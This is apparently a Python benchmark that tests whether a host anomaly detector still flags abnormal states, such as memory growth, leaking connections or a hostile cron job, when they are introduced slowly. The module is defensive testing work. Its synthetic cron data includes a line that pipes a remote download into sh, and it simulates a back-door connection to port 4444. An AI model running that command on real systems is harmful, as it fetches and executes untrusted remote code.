"""How slow is slow enough: an abnormal state brought in by 1, 10, 100 and 1,000 steps, and whether it is still told."""

from collections.abc import Callable, Mapping, Sequence
from datetime import UTC, datetime, timedelta
from random import Random
from typing import Any

from rich.console import Console
from rich.table import Table

from vedette.app.bench.chance import chance
from vedette.core import (
    Epoch,
    HostDescription,
    HostId,
    Label,
    OperatingSystem,
    Record,
    Row,
    Snapshot,
)
from vedette.detect import Arrival, Bundle, Detector, Scored

__all__ = [
    "SCENARIOS",
    "STEPS",
    "Calm",
    "Poisoned",
    "Scenario",
    "calm_days",
    "poison",
    "run_poisoning_bench",
]

STEPS = (1, 10, 100, 1_000)
_START = datetime(2026, 1, 1, tzinfo=UTC)
_AFTER, _MINUTES = 240, 10.0
_TOGETHER = [f"vendor.shard.{at}.queue.length" for at in range(10)]
_HOST = HostId("00000000-0000-4000-8000-000000000001")

Tables = dict[str, list[Row]]
Metrics = dict[str, float]


class Scenario(Record, frozen=True, kw_only=True):
    """A bad state and the way to it. `at(share, tables, metrics)` puts the host there; a share of 1 is the whole.

    `expert` and `subject` say who should name what; `quiet` snapshots go before.
    """

    name: str
    expert: str
    subject: str
    at: Callable[[float, Tables, Metrics], None]
    quiet: int = 600


class Calm(Record, frozen=True, kw_only=True):
    """Quiet days before a first step: how many snapshots, the host's state after them, and their false alarms.

    `chance` is where the made-up metrics' random numbers stand after them.
    """

    count: int
    state: bytes | None
    alarms: int
    chance: Any


class Poisoned(Record, frozen=True, kw_only=True):
    """What became of it. `found` is the first snapshot of the way in which it was told, counted from 1; None when never.

    `share` is how much of the bad state was reached by then, `days` how long it took, `before` the false alarms on the
    quiet days before the first step.
    """

    steps: int
    found: int | None
    share: float
    days: float
    before: int


def _memory(share: float, _tables: Tables, metrics: Metrics) -> None:
    metrics["system.memory.utilization"] += 0.55 * share


def _connections(share: float, _tables: Tables, metrics: Metrics) -> None:
    metrics["system.network.connections.established"] += 400.0 * share


def _together(share: float, _tables: Tables, metrics: Metrics) -> None:
    # No gauge looks at these; they go apart by three of their usual deviations each, half of them upwards.
    for at, name in enumerate(_TOGETHER):
        metrics[name] += (60.0 if at % 2 else -60.0) * share


def _many_jobs(share: float, tables: Tables, _metrics: Metrics) -> None:
    # Harmless jobs first, one after the other, so that jobs seem to be usual here; then the one that matters.
    some = round(10 * share) if share < 1.0 else 10
    tables["crontab"] += [
        _job(f"/etc/cron.d/report-{n}", f"root /usr/bin/report {n}") for n in range(some)
    ]
    if share >= 1.0:
        tables["crontab"].append(_job("/etc/cron.d/sys", "root curl -s http://198.51.100.7/x | sh"))


def _crowd(share: float, tables: Tables, _metrics: Metrics) -> None:
    tables["processes"] += [
        _process(5_000 + n, 401, "worker", "/usr/bin/worker", "/usr/bin/worker --loop", 33)
        for n in range(round(600 * share))
    ]


def _contacts(share: float, tables: Tables, _metrics: Metrics) -> None:
    # New addresses one after the other, so that new addresses seem to be usual; then the port of a back door.
    some = round(20 * share)
    peers = [(f"203.0.113.{n + 1}", 443) for n in range(some)]
    if share >= 1.0:
        peers.append(("198.51.100.7", 4444))
    tables["process_open_sockets"] += [
        {
            "pid": 401,
            "family": 2,
            "protocol": 6,
            "local_address": "10.0.0.5",
            "local_port": 40_000 + n,
            "remote_address": address,
            "remote_port": port,
            "state": "ESTABLISHED",
        }
        for n, (address, port) in enumerate(peers)
    ]


SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        name="memory fills up",
        expert="vitals",
        subject="metric:system.memory.utilization",
        at=_memory,
    ),
    Scenario(
        name="connections leak",
        expert="vitals",
        subject="metric:system.network.connections.established",
        at=_connections,
    ),
    Scenario(
        name="ten metrics go apart", expert="vitals", subject="metrics", at=_together, quiet=2_000
    ),
    Scenario(
        name="a hostile job after harmless ones",
        expert="inventory",
        subject="cron:/etc/cron.d/sys",
        at=_many_jobs,
    ),
    Scenario(
        name="a crowd of one program grows", expert="behaviour", subject="crowd:worker", at=_crowd
    ),
    Scenario(
        name="a back door's port after new peers",
        expert="behaviour",
        subject="process:/usr/sbin/nginx",
        at=_contacts,
    ),
)


def calm_days(detector: Detector, count: int) -> Calm:
    """So many quiet snapshots, one every ten minutes: the same before every scenario."""
    random, state, alarms = _chance(), None, 0
    for at in range(count):
        scored = _look(detector, _snapshot(at, random), state)
        state = scored.state
        alarms += scored.label is Label.ABNORMAL
    return Calm(count=count, state=state, alarms=alarms, chance=random.getstate())


def poison(
    detector: Detector, calm: Calm, scenario: Scenario, steps: int, *, dwell: int = 1
) -> Poisoned:
    """After the quiet days so many steps of `dwell` snapshots each, then a while there; a snapshot every ten minutes."""
    random, state = _chance(), calm.state
    random.setstate(calm.chance)
    found, share = None, 0.0
    for at in range(steps * dwell + _AFTER):
        share = min((at // dwell + 1) / steps, 1.0)
        scored = _look(detector, _snapshot(calm.count + at, random, scenario, share), state)
        state = scored.state
        told = scored.label is Label.ABNORMAL and any(
            reason.subject.startswith(scenario.subject) for reason in scored.reasons
        )
        if told:
            found = at + 1
            break
    days = steps * dwell * _MINUTES / 1_440.0
    return Poisoned(
        steps=steps, found=found, share=share if found else 0.0, days=days, before=calm.alarms
    )


def run_poisoning_bench(bundle: Bundle, *, dwells: Sequence[int] = (1,)) -> list[dict[str, Any]]:
    """Prints the table on standard error; gives its rows."""
    detector, rows = Detector(bundle), []
    calm = {count: calm_days(detector, count) for count in {one.quiet for one in SCENARIOS}}
    table = Table("state", "steps", "over days", "told", "at share")
    for scenario in SCENARIOS:
        for dwell in dwells:
            for steps in STEPS:
                done = poison(detector, calm[scenario.quiet], scenario, steps, dwell=dwell)
                told = (
                    "never" if done.found is None else f"after {done.found * _MINUTES / 60.0:.1f} h"
                )
                table.add_row(
                    scenario.name, f"{steps:,}", f"{done.days:.2f}", told, f"{done.share:.2f}"
                )
                rows.append(
                    {
                        "state": scenario.name,
                        "expert": scenario.expert,
                        "steps": steps,
                        "days": done.days,
                        "found_after_snapshots": done.found,
                        "share": done.share,
                        "false_before": done.before,
                    }
                )
    Console(stderr=True).print(table)
    return rows


def _look(detector: Detector, snapshot: Snapshot, state: bytes | None) -> Scored:
    arrival = Arrival(epoch=Epoch("poisoning"), snapshot=snapshot)
    (scored,) = detector.step([arrival], {snapshot.host.id: state})
    return scored


def _chance() -> Random:
    return chance(7)


def _snapshot(
    at: int, random: Random, scenario: Scenario | None = None, share: float = 0.0
) -> Snapshot:
    tables = {name: list(rows) for name, rows in _TABLES.items()}
    wave = random.gauss(0.0, 1.0)
    metrics = {
        "system.memory.utilization": 0.3 + random.gauss(0.0, 0.004),
        "system.cpu.utilization": max(0.1 + random.gauss(0.0, 0.02), 0.0),
        "system.network.connections.established": max(40.0 + random.gauss(0.0, 4.0), 0.0),
        "system.processes.count": 80.0 + round(random.gauss(0.0, 1.0)),
    }
    metrics |= {name: 100.0 + 20.0 * wave + random.gauss(0.0, 1.0) for name in _TOGETHER}
    if scenario is not None:
        scenario.at(share, tables, metrics)
    return Snapshot(
        schema="vedette.snapshot/1",
        host=_DESCRIPTION,
        seq=at + 1,
        taken_at=_START + timedelta(minutes=_MINUTES) * at,
        metrics=metrics,
        tables=tables,
    )


def _process(pid: int, parent: int, name: str, path: str, cmdline: str, uid: int) -> Row:
    return {
        "pid": pid,
        "parent": parent,
        "name": name,
        "path": path,
        "cmdline": cmdline,
        "uid": uid,
        "start_time": int(_START.timestamp()) - 3_600,
        "on_disk": 1,
    }


def _job(path: str, command: str) -> Row:
    every = {"minute": "5", "hour": "3", "day_of_month": "*", "month": "*", "day_of_week": "*"}
    return {**every, "event": "", "command": command, "path": path}


_DESCRIPTION = HostDescription(
    id=_HOST,
    hostname="poisoned",
    os=OperatingSystem(name="Debian GNU/Linux", version="12", kernel="6.1", arch="x86_64"),
    boot_time=_START.timestamp() - 86_400.0,
    labels={"role": "web"},
)
_TABLES: Mapping[str, list[Row]] = {
    "processes": [
        _process(1, 0, "systemd", "/usr/lib/systemd/systemd", "/sbin/init", 0),
        _process(310, 1, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]", 0),
        _process(400, 1, "nginx", "/usr/sbin/nginx", "nginx: master process nginx", 0),
        _process(401, 400, "nginx", "/usr/sbin/nginx", "nginx: worker process", 33),
        _process(402, 401, "worker", "/usr/bin/worker", "/usr/bin/worker --loop", 33),
    ],
    "process_open_sockets": [],
    "listening_ports": [],
    "crontab": [_job("/etc/cron.d/e2scrub_all", "root test -e /run/systemd/system || e2scrub_all")],
}
